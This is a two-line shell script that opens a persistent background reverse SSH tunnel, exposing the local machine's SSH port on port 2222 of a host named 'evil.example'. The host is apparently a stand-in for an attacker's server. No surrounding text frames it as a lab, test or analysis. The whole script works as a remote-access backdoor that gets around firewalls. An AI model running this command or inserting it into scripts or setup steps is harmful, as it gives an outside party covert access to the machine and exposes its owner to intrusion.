#!/bin/sh
ssh -f -N -R 2222:localhost:22 -o ServerAliveInterval=60 tunnel@evil.example
